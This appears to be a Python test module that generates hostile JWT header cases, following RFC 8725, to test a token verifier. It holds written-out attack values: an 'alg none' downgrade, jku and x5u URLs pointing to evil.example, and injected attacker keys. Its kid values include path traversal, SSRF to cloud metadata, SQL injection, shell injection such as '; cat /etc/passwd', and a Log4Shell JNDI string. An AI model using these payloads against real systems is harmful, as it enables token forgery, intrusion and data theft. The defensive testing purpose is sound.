"""Attacks by the headers of tokens (RFC 8725 2)."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.documents import Json, members, write
from tests.hostile.faults import Fault
from tests.hostile.minting import b64, rsa_jwk
from tests.hostile.samples import FULL, HEADER

_OTHER_ALGORITHMS = (
    *("none", "None", "NONE", "nOnE", "", "rs256", "Rs256", "RS256 ", " RS256", "RS-256", "RSA256", "RS512"),
    *("RS384", "PS256", "PS384", "ES256", "ES256K", "EdDSA", "HS256", "HS384", "HS512", "RS1", "RSA-OAEP"),
    *("dir", "A256GCMKW", "PBES2-HS256+A128KW", "ＲＳ２５６", "RS256\0", "RS256,none", "*"),
)
_STRANGE_KIDS = (
    *("", " ", "key-2", "KEY-1", "key-1 ", " key-1", "key-1\0", "key-1\n", "key-1/", "./key-1", "kеy-1"),
    *("../../../../dev/null", "/proc/self/environ", "C:\\Windows\\win.ini", "file:///dev/null"),
    *("https://evil.example/jwks.json", "http://169.254.169.254/latest", "gopher://127.0.0.1:27017/_x"),
    *("' OR '1'='1", "x' UNION SELECT 'key' --", '{"$ne": null}', "$where", "key-1' AND SLEEP(9)--"),
    *("; cat /etc/passwd", "$(id)", "`id`", "| id", "%00", "%2e%2e%2f", "\r\nX-Injected: 1", "<script>"),
    *("__proto__", "constructor", "{{7*7}}", "${jndi:ldap://evil.example/x}", "x" * 1_024, "x" * 1_025),
    *("x" * 10_000, "x" * 1_000_000, "\ud83d\ude42".encode("utf-16", "surrogatepass").decode("utf-16")),
)


def header_faults() -> Iterator[Fault]:
    """Attacks by the header (RFC 8725 2)."""
    attacker = rsa_jwk("an attacker's")
    carried: list[tuple[str, Json]] = [
        *(
            ("jku", url)
            for url in ("https://evil.example/jwks", "file:///etc/passwd", "http://169.254.169.254/")
        ),
        ("x5u", "https://evil.example/cert"),
        ("x5c", ["MIIB"]),
        ("x5t", "x"),
        ("x5t#S256", b64(b"x" * 32)),
        ("jwk", attacker),
        ("jwk", rsa_jwk()),
        *(("crit", value) for value in ([], ["b64"], ["exp"], ["alg"], [""], [1])),
        *(("crit", value) for value in ("b64", None, members())),
        ("b64", False),
        ("b64", True),
        *(("zip", value) for value in ("DEF", "GZIP", "", None)),
        *(("cty", value) for value in ("JWT", "json", "", None, 1)),
        ("enc", "A256GCM"),
        ("iss", "https://evil.example"),
        ("nonce", "x"),
        ("url", "https://evil.example"),
    ]
    for name, value in carried:
        yield Fault(f"{name} = {write(value)[:60]}", HEADER.plus(name, value))
    for alg in _OTHER_ALGORITHMS:
        yield Fault(f"alg {alg!r}", HEADER.changed("alg", alg))
    for kid in _STRANGE_KIDS:
        yield Fault(f"kid {kid[:40]!r} of {len(kid)} characters", HEADER.changed("kid", kid))
    for typ in ("jwt", "Jwt", "application/jwt", "JOSE", "", "id_token", "foo"):
        yield Fault(f"typ {typ!r}", HEADER.changed("typ", typ))
    for typ in ("at+jwt", "AT+JWT", "application/at+jwt", "logout+jwt", "dpop+jwt", "secevent+jwt", "x+jwt"):
        yield Fault(f"typ {typ!r}", HEADER.changed("typ", typ))
    for name, value in FULL.pairs:
        yield Fault(f"{name} in the header, too", HEADER.plus(name, value))
